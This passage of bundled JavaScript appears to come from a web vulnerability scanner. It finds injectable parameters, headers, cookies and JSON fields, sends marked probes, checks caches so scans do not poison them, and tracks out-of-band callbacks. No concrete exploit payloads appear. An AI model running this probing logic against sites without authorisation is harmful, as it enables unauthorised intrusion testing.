const name = "name" in point ? point.name : point.kind === "json" ? point.path.join("/") : point.kind === "path" ? String(point.segment) : "";
return `${formKey(point.request)} ${point.kind} ${name}`;
}
function withoutFragment(url) {
return url.split("#", 1)[0] ?? url;
}
function isWrite({method: method, isRead: isRead}) {
return method !== "GET" && isRead !== true;
}
function mayWrite(request, isOwn = false) {
if (!isWrite(request)) return true;
const url = new URL(request.url);
if ((0, link_policy.Ov)(url) || (0, data_names.cP)("sends-message", url.pathname)) return false;
return isOwn || !isOfAccount(url);
}
function isOfAccount(url) {
const names = url.pathname.split("/");
const shapes = (0, url_shape.j4)(url).split("/");
return shapes.some((shape, index) => /^\{\w+\}$/.test(shape) && (0, data_names.cP)("user-collection", names[index - 1] ?? ""));
}
const PER_RESPONSE_MAX = 10;
const FIELD_MAX = 4096;
const HARMLESS = /^[A-Za-z0-9 ._@-]{0,200}$/;
const isHarmless = value => HARMLESS.test(value);
const ECHO = "value";
function cookiesAfter({response: {headers: headers}}, point, value) {
if (!isHarmless(value)) return [];
const fields = (0, http.UE)(headers, "set-cookie").slice(0, PER_RESPONSE_MAX);
return fields.flatMap(field => {
const cookie = field.length > FIELD_MAX ? null : (0, set_cookie.s)(field);
const isOwn = value === point.baseline || value === "";
if (cookie === null || !isOwn && cookie.name.toLowerCase().includes(value.toLowerCase())) return [];
const {url: url, method: method} = (0, point_location.hD)(point);
const shown = isOwn ? field : field.replaceAll(value, ECHO);
const [, ...attributes] = shown.split(";");
return [ [ `${cookie.name};${attributes.join(";")}`, {
url: url,
method: method,
field: shown
} ] ];
});
}
function uniqueCookies(cookies) {
const keyOf = ({url: url, method: method, field: field}) => {
const [pair = "", ...attributes] = field.split(";");
return `${method} ${new URL(url).pathname} ${pair.split("=", 1)[0]};${attributes.join(";")}`;
};
return [ ...Map.groupBy(cookies, keyOf).values() ].flatMap(([first]) => first ?? []);
}
const FAILURES_MAX = 40;
const active_evidence_POSTED_MAX = 10;
const active_evidence_COOKIES_MAX = 200;
class EvidenceCollector {
#probes=[];
#failures=[];
#posted=new Map;
#cookies=[];
#parameters=0;
#requests=0;
add(injector) {
const {notes: notes, failures: failures, posted: posted, cookies: cookies, requests: requests} = injector;
this.#parameters += 1;
this.#requests += requests;
this.#probes.push(...notes);
this.#failures.push(...failures.slice(0, FAILURES_MAX - this.#failures.length));
if (posted !== null && this.#posted.size < active_evidence_POSTED_MAX && !this.#posted.has(posted.request.url)) this.#posted.set(posted.request.url, posted);
if (cookies.length > 0) this.#cookies = uniqueCookies([ ...this.#cookies, ...cookies ]).slice(0, active_evidence_COOKIES_MAX);
injector.release();
}
evidence(ofSite) {
return {
probes: [ ...ofSite, ...this.#probes ],
failures: this.#failures,
cookies: this.#cookies,
posted: [ ...this.#posted.values() ],
parameters: this.#parameters,
requests: this.#requests
};
}
}
var cache_buster = __webpack_require__(62084);
const cache_keys_BODY_BYTES_MAX = 256 * 1024;
const EXAMINED_MAX = 10;
function namesCache(headers) {
return headers.some(([name]) => /^(?:age|x-varnish)$|cache(?!-control)/i.test(name));
}
function isStored({response: {headers: headers}}) {
if (Number((0, http.wx)(headers, "age") ?? 0) > 0) return true;
if (/^\d+ \d+$/.test((0, http.wx)(headers, "x-varnish") ?? "")) return true;
return headers.some(([name, value]) => /cache/i.test(name) && /\bhit\b/i.test(value));
}
function isUnkeyed(point) {
if (point.kind === "header" || point.kind === "cookie") return true;
return point.kind === "query" && (0, data_names.cP)("campaign", point.name);
}
class CacheKeys {
#context;
#seen;
#cached=new Set;
#found=new Map;
#isShared=false;
constructor(context, seen) {
this.#context = context;
this.#seen = seen;
for (const {request: request, response: response} of seen) if (namesCache(response.headers) && this.#cached.size < EXAMINED_MAX) this.#cached.add(cache_keys_pathOf(request.url));
}
isCached(url) {
return this.#cached.has(cache_keys_pathOf(url));
}
async mayPoison(url) {
return await this.at(url) === "shared";
}
at(url) {
if (this.#isShared) return Promise.resolve("shared");
const {target: target} = this.#context;
const page = this.#cached.has(cache_keys_pathOf(url)) ? (0, cache_buster.un)(url) : target.startUrl;
const found = this.#found.get(cache_keys_pathOf(page)) ?? this.#examine(page);
this.#found.set(cache_keys_pathOf(page), found);
return found;
}
async keepsApart(url, marker) {
const other = await this.#read((0, cache_buster.SG)((0, cache_buster.un)(url), this.#context.token(10)));
this.#isShared ||= other?.response.text.toLowerCase().includes(marker) === true;
return !this.#isShared;
}
async #examine(page) {
const buster = this.#context.token(10);
const url = (0, cache_buster.SG)(page, buster);
const own = this.#seen.find(({request: request}) => request.url === page) ?? await this.#read(page);
const first = await this.#read(url);
if (own === null || first === null) return "unseen";
if (isStored(first)) return "shared";
if (first.response.text.includes(buster)) return "apart";
if (isSame(own, first) && ![ own, first ].some(({response: response}) => namesCache(response.headers))) return this.#ofMissing();
const other = await this.#read((0, cache_buster.SG)(page, this.#context.token(10)));
const again = other === null ? null : await this.#read(url);
if (other === null || again === null) return "unseen";
if (isStored(other)) return "shared";
if (isStored(again)) return "apart";
return isSame(first, again) && !isSame(first, other) ? "apart" : this.#ofMissing();
}
async #ofMissing() {
const {target: target} = this.#context;
const [name, buster, marker] = [ 1, 2, 3 ].map(() => this.#context.token(10));
const path = `${target.origin}/${name}`;
const headers = [ [ "Referer", `${target.origin}/${marker}` ], [ "X-Forwarded-Host", `${marker}.example` ] ];
const first = await this.#read(`${(0, cache_buster.SG)(path, buster)}&utm_source=${marker}`, {
headers: headers
});
const other = first === null ? null : await this.#read((0, cache_buster.SG)(path, this.#context.token(10)));
if (other === null) return "unseen";
const isTaken = isStored(other) || [ buster, marker ].some(word => other.response.text.includes(word));
return isTaken ? "shared" : "unseen";
}
async #read(url, options = {}) {
const request = {
url: url,
identity: "none",
maxBytes: cache_keys_BODY_BYTES_MAX,
fresh: true,
...options
};
const attempt = await this.#context.fetch(request);
return (0, http.m_)(attempt) ? attempt : null;
}
}
function isSame({response: one}, {response: other}) {
return one.status === other.status && one.text === other.text;
}
function cache_keys_pathOf(url) {
return new URL(url).pathname;
}
const POLL_MS = 1e3;
class CallbackTrials {
#log;
#signal;
#waiting=new Map;
#proven=[];
#lastSent=0;
constructor(log, signal) {
this.#log = log;
this.#signal = signal;
}
get isLoopback() {
return this.#log.isLoopback;
}
async run(trial) {
await this.#send(trial, null);
if (this.#log.isLoopback) await this.#settle(trial.injector);
}
isWaiting(injector) {
return [ ...this.#waiting.values(), ...this.#proven ].some(({trial: trial}) => trial.injector === injector);
}
async finish() {
for (;;) {
await this.#settle(null);
const isLate = performance.now() >= this.#lastSent + this.#log.patience;
if (isLate || this.#log.problem !== null || this.#signal.aborted) break;
await (0, external_node_timers_promises_.setTimeout)(POLL_MS, undefined, {
signal: this.#signal
}).catch(() => undefined);
}
const latest = await this.#log.read(this.#proven.map(({name: name}) => name));
for (const one of this.#proven) note({
...one,
callback: latest.get(one.name) ?? one.callback
});
this.#proven.length = 0;
this.#waiting.clear();
}
async #send(trial, first) {
if (this.#log.problem !== null) return;
const name = this.#log.name();
const payload = trial.payload(name);
const exchange = await trial.injector.send(payload);
if (exchange === null) return;
this.#lastSent = performance.now();
this.#waiting.set(name.name, {
trial: trial,
name: name.name,
payload: payload,
exchange: exchange,
first: first
});
}
async #settle(injector) {
for (;;) {
const waiting = [ ...this.#waiting.values() ].filter(({trial: trial}) => injector === null || trial.injector === injector);
const callbacks = await this.#log.read(waiting.map(({name: name}) => name));
const called = waiting.flatMap(sent => {
const callback = callbacks.get(sent.name);
return callback !== undefined && sent.trial.proves(callback, sent.payload) ? [ {
...sent,
callback: callback
} ] : [];
});
if (called.length === 0) return;
for (const one of called) {
this.#waiting.delete(one.name);
if (one.first === null) await this.#send(one.trial, one); else this.#proven.push(one.first, one);
}
if (injector !== null) for (const one of this.#proven.splice(0)) note(one);
}
}
}
function note({trial: trial, name: name, payload: payload, exchange: exchange, callback: callback}) {
trial.injector.note(trial.family, "called", payload, name, exchange, {
callback: callback
});
}
const ID = /^[\w-]{1,64}$/;
const created_points_DEPTH_MAX = 3;
const created_points_MEMBERS_MAX = 50;
function createdPoints(operations, writes, limits) {
return operations.flatMap(operation => {
const request = changeOfOwn(operation, writes);
if (request === null || !mayWrite(request, true) || isHarmfulName(operation.id)) return [];
return (0, link_policy.af)(new URL(request.url), limits) ? bodyPoints(request) : [];
});
}
function changeOfOwn({method: method, template: template, body: body, headers: headers}, writes) {
if (method !== "PUT" && method !== "PATCH" || body === null) return null;
const [, collection, name] = /^([^{}]+)\/\{([^{}]{1,100})\}\/?$/.exec(template) ?? [];
if (collection === undefined || name === undefined) return null;
const created = writes.responseOf(collection) ?? writes.responseOf(`${collection}/`);
const id = created === undefined ? null : idOf(created, name);
if (id === null) return null;
return {
method: method,
url: `${collection}/${id}`,
query: [],
body: requestBody(body.encoding, body.value, body.root),
...headers.length === 0 ? {} : {
headers: headers
}
};
}
function idOf({response: {headers: headers, text: text}}, name) {
const last = ((0, http.wx)(headers, "location") ?? "").split(/[?#]/, 1)[0]?.split("/").at(-1) ?? "";
if (ID.test(last)) return last;
return idIn((0, shared_records.U4)(text), name, created_points_DEPTH_MAX);
}
function idIn(value, name, depth) {
if (typeof value !== "object" || value === null || Array.isArray(value) || depth === 0) return null;
const members = Object.entries(value).slice(0, created_points_MEMBERS_MAX);
const own = members.find(([key, id]) => (key === name || /^_?id$|^uuid$/i.test(key)) && ID.test(String(id)));
if (own !== undefined) return String(own[1]);
return members.map(([, member]) => idIn(member, name, depth - 1)).find(id => id !== null) ?? null;
}
async function sendAt(context, keys, point, value, options) {
const request = (0, insertion_point.y7)(point, value);
if (!isUnkeyed(point)) return context.fetch({
...request,
...options
});
if (request.method === "GET" && await keys.mayPoison(request.url)) return {
request: request,
failure: {
code: "blocked",
message: "a cache would give the response to visitors"
}
};
return context.fetch({
...request,
url: (0, cache_buster.SG)(request.url, context.token(10)),
...options
});
}
const injector_FAILURES_MAX = 2;
const injector_COOKIES_MAX = 10;
const TIMEOUTS_MAX = 3;
const FAILED = /exception|traceback|stack ?trace|backtrace|goroutine|warning<|\bon line\b|panicked|sql(?:state| syntax)|ORA-\d/i;
function looksFailed(text) {
return FAILED.test(text);
}
class Injector {
point;
#context;
#notes=[];
#responses=new Map;
#failures=[];
#cookies=new Map;
#posted=null;
#limits;
#requests=0;
#timeouts=0;
#ended=null;
constructor(context, point, limits) {
this.#context = context;
this.#limits = limits;
this.point = point;
}
get ended() {
return this.#ended;
}
release() {
this.#responses.clear();
this.#ended ??= "requests";
}
get requests() {
return this.#requests;
}
get notes() {
return this.#notes;
}
get failures() {
return this.#failures;
}
get posted() {
return this.#posted;
}
get cookies() {
return [ ...this.#cookies.values() ];
}
token() {
return this.#context.token(10);
}
send(value) {
const response = this.#responses.get(value) ?? this.#request(value);
this.#responses.set(value, response);
return response;
}
repeat(value) {
return this.#request(value, true);
}
sendAs(point, value) {
return this.#request(value, false, point);
}
has(family) {
return this.#notes.some(note => note.family === family);
}
get siteValue() {
return siteValueOf(this.point);
}
async keepsApart(letters, marker) {
if (!isUnkeyed(this.point) || letters.request.method !== "GET") return true;
return this.#limits.keys.keepsApart((0, insertion_point.y7)(this.point, this.point.baseline).url, marker);
}
async knownExample() {
const {baseline: baseline, request: request, isInvented: isInvented} = this.point;
const isFree = this.#responses.has(baseline) || request.method === "GET" && isInvented !== true;
return isFree ? this.send(baseline) : null;
}
async #request(value, isRepeated = false, point = this.point) {
if (this.#ended !== null || this.#context.signal.aborted || this.#context.room("active").milliseconds === 0) return null;
const {responseBytes: maxBytes, writes: writes, keys: keys} = this.#limits;
const isWriting = isWrite(point.request);
if (isWriting && !writes.take(point.request)) {
this.#ended = "requests";
return null;
}
this.#requests += 1;
const fresh = isRepeated || point.request.method !== "GET";
const attempt = await sendAt(this.#context, keys, point, value, {
maxBytes: maxBytes,
fresh: fresh
});
if (isWriting) writes.note(point.request, (0, http.m_)(attempt) ? attempt : null);
if (!(0, http.m_)(attempt)) {
this.#noteFailure(attempt);
return null;
}
this.#timeouts = 0;
this.#keep(attempt, point, value);
return attempt;
}
#noteFailure({failure: {code: code}}) {
if (code === "timeout") this.#timeouts += 1;
if (code === "budget") this.#ended = this.#context.requestsLeft() > 0 ? "time" : "requests"; else if (this.#timeouts >= TIMEOUTS_MAX) this.#ended = "not_reached";
}
#keep(exchange, point, value) {
const {status: status, text: text} = exchange.response;
if (this.#failures.length < injector_FAILURES_MAX && (status >= 500 || looksFailed(text))) this.#failures.push(exchange);
if (point.request.method === "POST" && isHarmless(value)) this.#posted ??= exchange;
for (const [key, cookie] of cookiesAfter(exchange, point, value)) if (this.#cookies.size < injector_COOKIES_MAX && !this.#cookies.has(key)) this.#cookies.set(key, cookie);
}
note(family, step, payload, marker, exchange, more = {}) {
const {baseline: baseline} = this.point;
const {url: url, parameter: parameter} = (0, point_location.RI)(this.point);
const shown = this.point.kind === "path" ? {
shown: {
url: url,
parameter: parameter
}
} : {};
const original = (0, insertion_point.y7)(this.point, baseline);
const place = {
...(0, point_location.hD)(this.point),
...shown,
baseline: baseline,
original: original
};
this.#notes.push({
family: family,
...place,
payload: payload,
marker: marker,
step: step,
exchange: exchange,
...more
});
}
}
function siteValueOf({isInvented: isInvented, baseline: baseline}) {
return isInvented === true ? "" : baseline;
}
const TEXT = "test";
const MAIL = "visitor@example.com";
const marked_request_DEPTH_MAX = 10;
function markedRequest(request, marker) {
const {body: body} = request;
if (body === undefined) return request;
if ((0, insertion_point.Ce)(body)) {
const fields = body.fields.map(([name, value]) => [ name, markedText(value, marker) ]);
return {
...request,
body: {
...body,
fields: fields
}
};
}
return {
...request,
body: {
...body,
value: markedValue(body.value, marker, marked_request_DEPTH_MAX)
}
};
}
function markedPoint(point, marker) {
const {request: request, alone: alone, baseline: baseline, isInvented: isInvented} = point;
if (request.method === "GET" || request.isRead === true) return point;
return {
...point,
request: markedRequest(request, marker),
...alone === undefined ? {} : {
alone: markedRequest(alone, marker)
},
baseline: isInvented === true || baseline === TEXT ? markedText(baseline, marker) : baseline
};
}
function markedText(text, marker) {
if (text === TEXT) return marker;
return text === MAIL ? `${marker}@example.com` : text;
}
function markedValue(value, marker, depth) {
if (typeof value === "string") return markedText(value, marker);
if (typeof value !== "object" || value === null || depth === 0) return value;
if (Array.isArray(value)) return value.map(item => markedValue(item, marker, depth - 1));
return Object.fromEntries(Object.entries(value).map(([name, member]) => [ name, markedValue(member, marker, depth - 1) ]));
}
var unescape_literal = __webpack_require__(92266);
var redirect_target = __webpack_require__(81695);
const insertion_points_LINKS_MAX = 2e4;
const SIGN_OUT = /\b(?:log|sign)[\s_-]?(?:out|off)/gi;
const VERSION_VALUE = /^v?[\d.]*$|^[0-9a-f]{6,64}$/i;
function pointKey(point) {
const {method: method, url: url, parameter: parameter} = (0, point_location.hD)(point);
return `${method} ${(0, url_shape.UD)(new URL(url))} ${parameter}`;
}
function isBrowserHeader(point) {
return point.kind === "header" && /^(?:referer|user-agent|x-forwarded-(?:for|host))$/i.test(point.name);
}
function resourcePoints(pages, origin, limits, known) {
const taken = new Set(known.map(pointKey));
const isNew = point => !taken.has(pointKey(point));
const byShape = new Map;
for (const url of pages.flatMap(page => generatedResources(page, origin, limits))) {
const shape = (0, url_shape.T2)(url);
if (!byShape.has(shape) && queryPoints(url).some(isNew)) byShape.set(shape, url.href);
}
return discoverInsertionPoints([ ...byShape.values() ], []).filter(isNew);
}
function generatedResources({exchange: exchange}, origin, limits) {
const document = (0, html_document.lM)(exchange);
if (document === null) return [];
const files = document.links.filter(({url: url}) => url.includes("?") && isFile(new URL(url)));
return [ ...document.subresources, ...files ].filter(({url: url}) => url.includes("?")).map(({url: url}) => new URL(url)).filter(url => url.search !== "" && url.origin === origin && (0, 
link_policy.af)(url, limits) && !isVersioned(url));
}
function isVersioned(url) {
return [ ...url.searchParams ].every(([name, value]) => value === "" ? isFile(url) && VERSION_VALUE.test(name) : (0, 
data_names.cP)("version", name) && VERSION_VALUE.test(value));
}
function isFile(url) {
return (0, link_policy.YY)(url) || (0, link_policy.KJ)(url);
}
function pathPoints({pages: pages}, limits) {
const urls = pages.filter(({exchange: exchange}) => !(0, unescape_literal.i)(exchange.response)).map(({exchange: exchange}) => new URL(exchange.request.url)).filter(url => url.search === "" && !url.pathname.endsWith("/") && !isFile(url) && !(0, 
url_shape.Vd)(url)).filter(url => isFolderAllowed(url, limits));
const numbered = [];
const named = [];
for (const [folder, group] of Map.groupBy(urls, url => (0, url_shape.j4)(new URL(".", url)))) {
const number = group.find(url => (0, url_shape.j4)(url).endsWith("}"));
const [first] = group;
if (number !== undefined) numbered.push(number); else if (first !== undefined && folder !== "/") named.push({
url: first,
count: group.length
});
}
const likeliest = named.sort((one, other) => other.count - one.count).map(({url: url}) => url);
return [ ...numbered, ...likeliest ].map(insertion_points_lastSegment);
}
function folderPoints({pages: pages, resources: resources}, origin, limits) {
const folders = new Map;
const add = href => {
const url = new URL(href);
if (url.origin !== origin || !isFolderAllowed(url, limits)) return;
const folder = new URL(".", url).pathname;
if (!folders.has(folder)) folders.set(folder, insertion_points_lastSegment(url));
};
for (const {request: request} of resources) add(request.url);
for (const {exchange: exchange} of pages) for (const {url: url, kind: kind} of (0, 
html_document.lM)(exchange)?.subresources ?? []) {
const file = new URL(url);
if (kind !== "frame" && kind !== "script" && file.search === "" && isFile(file)) add(url);
}
return [ ...folders.values() ];
}
function isFolderAllowed(url, limits) {
return (0, link_policy.af)(new URL("-", url), limits);
}
function insertion_points_lastSegment({origin: origin, pathname: pathname}) {
const segments = pathname.split("/").slice(1);
return {
kind: "path",
segment: segments.length - 1,
request: {
method: "GET",
url: origin + pathname,
query: []
},
baseline: (0, shared_text.oF)(segments.at(-1) ?? "")
};
}
function signOutPoints(pages, origin, limits) {
const links = pages.flatMap(({exchange: exchange}) => (0, html_document.lM)(exchange)?.links ?? []).slice(0, insertion_points_LINKS_MAX);
const found = new Map;
for (const url of links.flatMap(link => signOutUrl(link, origin, limits) ?? [])) for (const point of queryPoints(url)) {
const isRedirect = point.kind === "query" && (0, redirect_target.KN)(point.name, point.baseline);
if (isRedirect && !found.has(pointKey(point))) found.set(pointKey(point), point);
}
return [ ...found.values() ];
}
function signOutUrl(link, origin, limits) {
if (!link.url.includes("?") || !/log|sign/i.test(link.url + link.text)) return null;
const url = new URL(link.url);
if (url.origin !== origin || !(0, link_policy.af)(url, limits)) return null;
return (0, link_policy.Ov)(url, link.text) && !isHarmfulOtherwise(url, link.text) ? url : null;
}
function isHarmfulOtherwise(url, text) {
const rest = new URL(url.href);
rest.pathname = url.pathname.replace(SIGN_OUT, "x");
rest.search = url.search.replace(SIGN_OUT, "x");
return (0, link_policy.Ov)(rest, text.replace(SIGN_OUT, "x"));
}
var reflection = __webpack_require__(73196);
const SHARE = .1;
const probe_headers_HOSTS_MAX = 4;
const SHARED_MAX = 2;
const probe_headers_BODY_BYTES_MAX = 256 * 1024;
async function headerPoints(context, crawl, known, own, search) {
if (context.scanType !== "compliance") return [];
const found = [];
const asked = programs(crawl, known).slice(0, Math.floor(context.room("active").share * SHARE)).map(request => isWrite(request) ? markedRequest(request, context.marker) : request);
const trials = [ ...asked.map(request => ({
request: request,
all: baselines(request)
})), ...asked.slice(0, probe_headers_HOSTS_MAX).map(request => ({
request: request,
all: [ forwardedHost(request) ]
})) ];
for (const {request: request, all: all} of trials) {
const headers = all.filter(([name]) => !own.has(name.toLowerCase()));
found.push(...await pointsShown(context, request, headers, search));
}
return [ ...Map.groupBy(found, ({name: name}) => name).values() ].flatMap(points => points.length > asked.length / 2 ? points.slice(0, SHARED_MAX) : points);
}
async function pointsShown(context, request, headers, {showsError: showsError, writes: writes, keys: keys}) {
const marked = headers.map(([name, value]) => ({
name: name,
value: value,
marker: context.token(10)
}));
const sent = marked.map(({name: name, value: value, marker: marker}) => [ name, `${value}${marker}${reflection.cl}` ]);
const [first] = sent;
if (first === undefined) return [];
const point = {
kind: "header",
name: first[0],
request: {
...request,
headers: sent
},
baseline: ""
};
const isWriting = isWrite(request);
if (isWriting && !writes.take(request)) return [];
const attempt = await sendAt(context, keys, point, first[1], {
maxBytes: probe_headers_BODY_BYTES_MAX,
fresh: true
});
if (isWriting) writes.note(request, (0, http.m_)(attempt) ? attempt : null);
if (!(0, http.m_)(attempt)) return [];
const {text: text} = attempt.response;
const isError = showsError(text);
const shown = marked.find(({marker: marker}) => text.toLowerCase().includes(marker));
if (shown !== undefined && !isWriting && !await keys.keepsApart(attempt.request.url, shown.marker)) return [];
return marked.filter(({marker: marker}) => isError || text.toLowerCase().includes(marker)).map(({name: name, value: value}) => ({
kind: "header",
name: name,
request: {
...request,
headers: headers
},
baseline: value
}));
}
function baselines({url: url}) {
return [ [ "Referer", url ], [ "User-Agent", user_agent._O ], [ "X-Forwarded-For", "192.0.2.1" ] ];
}
function forwardedHost({url: url}) {
return [ "X-Forwarded-Host", new URL(url).host ];
}
function programs(crawl, known) {
const pages = crawl.pages.filter(({exchange: exchange}) => (0, html_document.lM)(exchange) !== null && exchange.request.method === "GET").map(({exchange: exchange}) => {
const url = new URL(exchange.request.url);
const query = [ ...url.searchParams ].slice(0, 30);
return {
method: "GET",
url: `${url.origin}${url.pathname}`,
query: query
};
});
const all = [ ...known.filter(({kind: kind}) => kind !== "path").map(({request: request}) => request), ...pages ];
const shapes = Map.groupBy(all, ({method: method, url: url, query: query}) => `${method} ${(0, 
url_shape.T2)(new URL(`${url}?${new URLSearchParams(query.map(pair => [ ...pair ]))}`))}`);
return [ ...shapes.values() ].flatMap(([one]) => one ?? []);
}
const script_requests_LENGTH_MAX = 256 * 1024;
const EACH_MAX = 20;
const CALL_MAX = 500;
const script_requests_MEMBERS_MAX = 15;
const script_requests_TEXT = String.raw`["'\x60]([^"'\x60\n]{0,200})["'\x60]`;
const SET_HEADER = new RegExp(String.raw`\.setRequestHeader\(\s{0,9}(?:["'\x60]([\w-]{1,60})["'\x60]|[A-Za-z_$][\w$.]{0,60})\s{0,9},\s{0,9}(?:${script_requests_TEXT})?`, "g");
const HEADERS = /\bheaders["']?\s{0,9}:\s{0,9}\{([^{}]{1,1000})\}/g;
const HEADER = new RegExp(String.raw`["'\x60]?([\w-]{1,60})["'\x60]?\s{0,9}:\s{0,9}(?:${script_requests_TEXT})?`, "g");
const COOKIES = [ /\bdocument\.cookie\s{0,9}=\s{0,9}["'`]([^=;"'`\s]{1,60})=([^;"'`]{0,200})/g, new RegExp(String.raw`(?:\bCookies\.set|\$\.cookie|\b(?:set|create|write)Cookie)\(\s{0,9}["'\x60]([^=;"'\x60\s]{1,60})["'\x60]\s{0,9},\s{0,9}(?:${script_requests_TEXT})?`, "gi") ];
const CALL = /(?:\bfetch\(\s{0,9}|\burl\s{0,9}:\s{0,9}|\.open\(\s{0,9}["'](GET|POST)["']\s{0,9},\s{0,9}|\.(get|post)\(\s{0,9})["'`](\/?[\w\-./~]{1,200})(?:\?[^"'`]{0,200})?["'`]/gi;
const STRINGIFIED = /\bJSON\.stringify\(\s{0,9}\{([^{}]{1,1000})\}/g;
const POSTED = /\b(?:axios|\$?https?|httpClient|api|client)\.post(?:<[\w[\]]{1,60}>)?\(\s{0,9}["'`](\/?[\w\-./~]{1,200})["'`]\s{0,9},\s{0,9}\{([^{}]{1,1000})\}/gi;
const MEMBER = new RegExp(String.raw`(?:^|[,\s])["']?([A-Za-z_$][\w$-]{0,60})["']?\s{0,9}:\s{0,9}(?:${script_requests_TEXT}|(-?\d{1,15}))?`, "g");
const NAMES_FIELDS = /\.(?:attr|prop|setAttribute)\(\s{0,9}["']name["']\s{0,9},\s{0,9}[A-Za-z_$]/;
function isStandard(name) {
return (0, data_names.cP)("kept-header", name) || name.toLowerCase() === "x-requested-with";
}
function scriptRequests(script) {
const text = script.slice(0, script_requests_LENGTH_MAX);
const headers = [];
const addHeader = (name, value, at) => {
if (headers.length < EACH_MAX && !isStandard(name) && !headers.some(other => other.name === name)) headers.push({
name: name,
value: value ?? "",
call: callBefore(text, at)
});
};
let namesHeaders = false;
for (const {1: name, 2: value, index: index} of text.matchAll(SET_HEADER)) if (name === undefined) namesHeaders = true; else addHeader(name, value, index);
for (const {1: list = "", index: index} of text.matchAll(HEADERS)) for (const [, name = "", value] of list.matchAll(HEADER)) addHeader(name, value, index);
const cookies = COOKIES.flatMap(form => [ ...text.matchAll(form) ].map(([, name = "", value = ""]) => [ name, value ]));
const bodies = [ ...[ ...text.matchAll(STRINGIFIED) ].flatMap(({1: list = "", index: index}) => {
const call = callBefore(text, index);
return call === null ? [] : {
path: call.path,
members: membersOf(list)
};
}), ...[ ...text.matchAll(POSTED) ].map(([, path = "", list = ""]) => ({
path: path,
members: membersOf(list)
})) ];
return {
headers: headers,
cookies: cookies.slice(0, EACH_MAX),
bodies: bodies.filter(({members: members}) => members.length > 0).slice(0, EACH_MAX),
namesHeaders: namesHeaders,
namesFields: NAMES_FIELDS.test(text)
};
}
function callBefore(text, index) {
const start = Math.max(0, index - CALL_MAX);
const last = [ ...text.slice(start, index).matchAll(CALL) ].at(-1);
if (last === undefined) return null;
const [, opened, called, path = ""] = last;
const isPost = /post/i.test(opened ?? called ?? "") || /\b(?:method|type)["']?\s{0,9}:\s{0,9}["']POST/i.test(text.slice(start + last.index, index + CALL_MAX));
return {
method: isPost ? "POST" : "GET",
path: path
};
}
function membersOf(list) {
const named = [ ...list.matchAll(MEMBER) ].map(([, name = "", text, number]) => [ name, text ?? number ?? "" ]);
const short = list.split(",").flatMap(part => /^\s*[A-Za-z_$][\w$]{0,60}\s*$/.test(part) ? part.trim() : []);
const known = new Set(named.map(([name]) => name));
return [ ...named, ...short.filter(name => !known.has(name)).map(name => [ name, "" ]) ].slice(0, script_requests_MEMBERS_MAX);
}
const script_requests_known = new WeakMap;
const LIBRARY = /(?:jquery|angular|react|vue|bootstrap|axios|lodash|prototype|mootools|ext-all|modernizr|polyfills?|vendor)[\w.-]{0,60}\.js$|\.min\.js$|js\.cookie/i;
function requestsOfScript(exchange) {
if (LIBRARY.test(new URL(exchange.request.url).pathname)) return null;
const requests = script_requests_known.get(exchange) ?? scriptRequests(exchange.response.text);
script_requests_known.set(exchange, requests);
return requests;
}
var session_names = __webpack_require__(55395);
const scripted_points_FIELDS_MAX = 2;
const NOT_TYPED = new Set([ "submit", "button", "image", "file", "password", "hidden", "checkbox", "radio", "select" ]);
function scriptedPoints(crawl, origin, own, allowsPost) {
const pages = crawl.pages.flatMap(page => readPage(page, crawl, origin, allowsPost));
const found = new Map;
const isWanted = ({kind: kind, request: request, ...point}) => (request.method !== "POST" || allowsPost) && !(kind === "header" && "name" in point && own.has(point.name.toLowerCase()));
for (const page of pages) for (const point of [ ...scripted_points_headerPoints(page, origin), ...namePoints(page), ...jsonPoints(page, origin) ]) {
const key = scriptedKey(point);
if (isWanted(point) && !found.has(key)) found.set(key, point);
}
return [ ...found.values(), ...own.has("cookie") ? [] : cookiePoints(crawl, pages) ];
}
function scriptedKey(point) {
const place = point.kind === "json" ? point.path.join(".") : "name" in point ? point.name : "";
return `${point.request.method} ${new URL(point.request.url).pathname} ${point.kind} ${place}`;
}
function readPage(page, crawl, origin, allowsPost) {
const document = (0, html_document.lM)(page.exchange);
if (document === null) return [];
const isOwn = ({action: action, method: method}) => {
const url = new URL(action);
return (method === "GET" || allowsPost) && url.origin === origin && !(0, link_policy.eG)(url, method);
};
const files = new Set(document.scripts.map(({url: url}) => url));
const scripts = [ ...document.scripts.filter(({url: url}) => url === null).map(({text: text}) => scriptRequests(text)), ...crawl.resources.flatMap(file => files.has(file.request.url) ? requestsOfScript(file) ?? [] : []) ];
return [ {
url: page.url,
document: document,
forms: document.forms.filter(isOwn),
scripts: scripts
} ];
}
function typedFields({fields: fields}) {
const typed = fields.filter(({type: type}) => !NOT_TYPED.has(type));
const filled = typed.filter(({value: value}) => value !== "");
return (filled.length > 0 ? filled : typed).slice(0, scripted_points_FIELDS_MAX);
}
function scripted_points_headerPoints(page, origin) {
const scripted = page.forms.filter(({isScripted: isScripted}) => isScripted === true);
const ofFields = page.scripts.some(({namesHeaders: namesHeaders}) => namesHeaders) ? scripted.flatMap(form => typedFields(form).map(field => headerPoint(field, formRequest(form)))) : [];
const named = page.scripts.flatMap(({headers: headers}) => headers.flatMap(({name: name, value: value, call: call}) => {
const request = call === null ? null : endpoint(call.path, call.method, page, origin);
const requests = request === null ? scripted.map(form => formRequest(form)) : [ request ];
return requests.slice(0, scripted_points_FIELDS_MAX).map(one => headerPoint({
name: name,
value: value
}, one));
}));
return [ ...named, ...ofFields ];
}
function headerPoint({name: name, value: value}, request) {
const baseline = value === "" ? "test" : value;
const headers = [ [ name, baseline ] ];
return {
kind: "header",
name: name,
request: {
...request,
headers: headers
},
baseline: baseline,
...invented(value)
};
}
function invented(value) {
return value === "" ? {
isInvented: true
} : {};
}
function namePoints(page) {
if (!page.scripts.some(({namesFields: namesFields}) => namesFields)) return [];
return page.forms.filter(({isScripted: isScripted}) => isScripted === true).flatMap(form => typedFields(form).map(({name: name, value: value}) => {
const request = formRequest(form);
const withName = pairs => pairs.map(pair => pair[0] === name ? [ name, name ] : pair);
const of = request.method === "GET" ? "query" : "form";
const {body: body} = request;
const sent = body !== undefined && (0, insertion_point.Ce)(body) ? {
...request,
body: {
...body,
fields: withName(body.fields)
}
} : {
...request,
query: withName(request.query)
};
return {
kind: "name",
of: of,
name: name,
request: sent,
baseline: value === "" ? name : value,
...invented(value)
};
}));
}
function jsonPoints(page, origin) {
return page.scripts.flatMap(({bodies: bodies}) => bodies.flatMap(({path: path, members: members}) => {
const request = endpoint(path, "POST", page, origin);
if (request === null) return [];
const filled = members.map(([name, value]) => [ name, value === "" ? "test" : value ]);
